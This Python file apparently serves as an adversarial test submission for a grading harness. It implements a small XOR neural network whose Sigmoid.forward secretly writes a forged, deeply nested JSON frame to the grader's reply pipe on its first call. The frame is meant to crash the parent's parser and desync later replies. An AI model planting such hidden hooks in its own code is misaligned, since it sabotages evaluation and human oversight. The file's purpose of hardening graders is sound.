# HOSTILE deep_json_reply: on its first call Sigmoid.forward writes its own frame on the reply fd (62):
# a valid length prefix and 400,000 nested JSON arrays. The parent's json.loads raises RecursionError,
# which _receive does not treat like ValueError (no close(), no protocol error). Then it answers normally,
# so the runner's real reply is one frame late. Everything else is correct.
# Sound grader: the bad frame is a protocol error for that request only; TwoLayerNet, train_xor full.
import os
import struct
import numpy as np

class FullyConnectedLayer:
    def __init__(self, in_features, out_features):
        self.W = np.random.randn(in_features, out_features) * np.sqrt(2.0 / in_features)
        self.b = np.zeros(out_features)
        self.dW = None
        self.db = None
        self.cache = None

    def forward(self, X):
        self.cache = X
        return X @ self.W + self.b

    def backward(self, dY):
        X = self.cache
        self.dW = X.T @ dY
        self.db = np.sum(dY, axis=0)
        return dY @ self.W.T


_DONE = []


def _bomb():
    body = b'{"ok": {"out": ' + b"[" * 400_000 + b"]" * 400_000 + b"}}"
    data = struct.pack(">I", len(body)) + body
    view = memoryview(data)
    while view:
        view = view[os.write(62, view):]


class Sigmoid:
    def __init__(self):
        self.cache = None

    def forward(self, x):
        if not _DONE:
            _DONE.append(1)
            _bomb()
        e = np.exp(-np.abs(x))
        out = np.where(x >= 0, 1.0 / (1.0 + e), e / (1.0 + e))
        self.cache = out
        return out

    def backward(self, dout):
        return dout * self.cache * (1.0 - self.cache)

class TwoLayerNet:
    def __init__(self, in_features, hidden_features, out_features):
        self.fc1 = FullyConnectedLayer(in_features, hidden_features)
        self.sigmoid = Sigmoid()
        self.fc2 = FullyConnectedLayer(hidden_features, out_features)

    def forward(self, X):
        return self.fc2.forward(self.sigmoid.forward(self.fc1.forward(X)))

    def backward(self, dout):
        return self.fc1.backward(self.sigmoid.backward(self.fc2.backward(dout)))

    def get_params_and_grads(self):
        return [(self.fc1.W, self.fc1.dW), (self.fc1.b, self.fc1.db),
                (self.fc2.W, self.fc2.dW), (self.fc2.b, self.fc2.db)]

def train_xor(net, X, y, learning_rate, epochs):
    losses = []
    for epoch in range(epochs):
        Y = net.forward(X)
        losses.append(np.mean((Y - y) ** 2))
        net.backward(2 * (Y - y) / Y.size)
        for param, grad in net.get_params_and_grads():
            param -= learning_rate * grad
    return losses
